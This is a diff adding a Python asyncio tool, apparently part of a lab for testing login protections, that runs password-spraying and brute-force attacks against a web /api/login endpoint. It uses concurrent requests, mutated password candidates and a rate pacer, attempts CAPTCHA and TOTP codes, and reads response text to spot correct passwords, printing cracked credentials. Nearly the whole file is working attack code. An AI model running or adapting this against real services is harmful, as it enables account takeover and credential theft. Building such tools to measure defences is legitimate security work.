@@ -0,0 +1,221 @@
+import asyncio
+import json
+import time
+import argparse
+import statistics
+from collections import Counter
+
+import httpx
+
+from attacker import (
+    LOCAL_ADDRESS, FIRST_USER, LAST_USER, MAX_ATTEMPTS, MAX_SECONDS,
+    generate_captcha_code, generate_totp_code
+)
+from candidates import generate_candidates, DEFAULT_RULES
+
+
+DEFAULT_CONCURRENCY = 50
+DEFAULT_RATE = 0  # requests/sec, 0 = as fast as the server allows
+
+
+def brute_force_jobs(usernames, rules=DEFAULT_RULES):
+    for username in usernames:
+        for candidate in generate_candidates(rules):
+            yield username, candidate
+
+
+def password_spraying_jobs(usernames, rules=DEFAULT_RULES):
+    for candidate in generate_candidates(rules):
+        for username in usernames:
+            yield username, candidate
+
+
+class Pacer:
+    # spaces request starts evenly to hit a target rate
+    def __init__(self, rate):
+        self.interval = 1 / rate if rate else 0
+        self.next_time = time.monotonic()
+        self.lock = asyncio.Lock()
+
+    async def wait(self):
+        if not self.interval:
+            return
+        async with self.lock:
+            now = time.monotonic()
+            if self.next_time > now:
+                await asyncio.sleep(self.next_time - now)
+            self.next_time = max(self.next_time, now) + self.interval
+
+
+class LoadEngine:
+    def __init__(self, base_url=LOCAL_ADDRESS, concurrency=DEFAULT_CONCURRENCY, rate=DEFAULT_RATE,
+                 max_attempts=MAX_ATTEMPTS, max_seconds=MAX_SECONDS, stop_on_first=True, verbose=False):
+        self.base_url = base_url
+        self.concurrency = concurrency
+        self.pacer = Pacer(rate)
+        self.max_attempts = max_attempts
+        self.max_seconds = max_seconds
+        self.stop_on_first = stop_on_first
+        self.verbose = verbose
+
+        self.attempts = 0
+        self.statuses = Counter()
+        self.latencies = []
+        self.cracked = {}
+        self.captcha_users = set()
+        self.stop = asyncio.Event()
+        self.start_time = None
+
+    def budget_left(self):
+        if self.attempts >= self.max_attempts:
+            print("Reached maximum attempts limit.")
+            return False
+        if time.monotonic() - self.start_time >= self.max_seconds:
+            print("Reached time limit.")
+            return False
+        return True
+
+    async def post(self, client, username, password):
+        data = {
+            'username': username,
+            'password': password,
+            'totp_code': '',
+            'captcha_code': generate_captcha_code() if username in self.captcha_users else ''
+        }
+        start = time.perf_counter()
+        try:
+            response = await client.post("/api/login", json=data)
+        except httpx.HTTPError as e:
+            self.statuses["error"] += 1
+            if self.verbose:
+                print(f"Request failed: {e}")
+            return
+        self.latencies.append((time.perf_counter() - start) * 1000)
+        self.statuses[response.status_code] += 1
+
+        if self.verbose:
+            print(response.status_code, username, password)
+
+        if response.status_code == 200:
+            self.found(username, password)
+        elif response.status_code == 403 and "totp" in response.text and "Invalid password" not in response.text:
+            # password accepted, second factor still required (TOTP mode also sends totp_required
+            # for wrong passwords, with "Invalid password" in the message)
+            self.found(username, password)
+            await self.try_totp(client, username, password)
+        elif response.status_code == 403 and "captcha" in response.text:
+            self.captcha_users.add(username)
+            if "Password correct" in response.text:
+                # only the CAPTCHA guess was wrong
+                self.found(username, password)
+
+    async def try_totp(self, client, username, password):
+        data = {'username': username, 'password': password, 'totp_code': generate_totp_code(), 'captcha_code': ''}
+        try:
+            await client.post("/api/login_totp", json=data)
+        except httpx.HTTPError:
+            pass
+
+    def found(self, username, password):
+        if username in self.cracked:
+            return
+        self.cracked[username] = password
+        print(f"hacked! {username} / {password}")
+        if self.stop_on_first:
+            self.stop.set()
+
+    async def worker(self, client, jobs):
+        while not self.stop.is_set():
+            try:
+                username, password = next(jobs)
+            except StopIteration:
+                return
+            if username in self.cracked:
+                continue
+            if not self.budget_left():
+                self.stop.set()
+                return
+            self.attempts += 1
+            await self.pacer.wait()
+            await self.post(client, username, password)
+
+    async def run(self, jobs):
+        self.start_time = time.monotonic()
+        limits = httpx.Limits(max_connections=self.concurrency, max_keepalive_connections=self.concurrency)
+        async with httpx.AsyncClient(base_url=self.base_url, limits=limits, timeout=30) as client:
+            server_config = await self.fetch_config(client)
+            # all workers pull from one shared generator - no job is sent twice
+            workers = [self.worker(client, jobs) for _ in range(self.concurrency)]
+            await asyncio.gather(*workers)
+        return self.report(server_config)
+
+    async def fetch_config(self, client):
+        try:
+            response = await client.get("/api/config")
+            return response.json()
+        except (httpx.HTTPError, ValueError):
+            return {}
+
+    def report(self, server_config):
+        elapsed = time.monotonic() - self.start_time
+        latencies = sorted(self.latencies)
+
+        def percentile(p):
+            if not latencies:
+                return 0
+            return latencies[min(len(latencies) - 1, int(len(latencies) * p / 100))]
+
+        return {
+            "protection_mode": server_config.get("protection_mode"),
+            "hash_mode": server_config.get("hash_mode"),
+            "concurrency": self.concurrency,
+            "attempts": self.attempts,
+            "elapsed_s": round(elapsed, 2),
+            "throughput_rps": round(len(latencies) / elapsed, 2) if elapsed else 0,
+            "latency_ms": {
+                "mean": round(statistics.fmean(latencies), 2) if latencies else 0,
+                "p50": round(percentile(50), 2),
+                "p95": round(percentile(95), 2),
+                "p99": round(percentile(99), 2),
+            },
+            "statuses": {str(k): v for k, v in self.statuses.items()},
+            "cracked": self.cracked,
+        }
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Async load generator for /api/login")
+    parser.add_argument("--strategy", choices=["spraying", "brute_force"], default="spraying")
+    parser.add_argument("--concurrency", type=int, default=DEFAULT_CONCURRENCY)
+    parser.add_argument("--rate", type=float, default=DEFAULT_RATE, help="target requests/sec (0 = unlimited)")
+    parser.add_argument("--url", default=LOCAL_ADDRESS)
+    parser.add_argument("--max-attempts", type=int, default=MAX_ATTEMPTS)
+    parser.add_argument("--max-seconds", type=float, default=MAX_SECONDS)
+    parser.add_argument("--users", nargs="*", help="usernames to attack (default: FIRST_USER..LAST_USER)")
+    parser.add_argument("--rules", nargs="+", default=list(DEFAULT_RULES), choices=["suffix", "case", "leet"],
+                        help="candidate mutation rules, applied in order")
+    parser.add_argument("--verbose", action="store_true")
+    args = parser.parse_args()
+
+    usernames = args.users or [f"user{i}" for i in range(FIRST_USER, LAST_USER)]
+
+    if args.strategy == "brute_force":
+        jobs = brute_force_jobs(usernames, args.rules)
+    else:
+        jobs = password_spraying_jobs(usernames, args.rules)
+
+    engine = LoadEngine(
+        base_url=args.url,
+        concurrency=args.concurrency,
+        rate=args.rate,
+        max_attempts=args.max_attempts,
+        max_seconds=args.max_seconds,
+        stop_on_first=args.strategy == "spraying",
+        verbose=args.verbose,
+    )
+    report = asyncio.run(engine.run(jobs))
+    print(json.dumps(report, indent=2))
+
+
+if __name__ == '__main__':
+    main()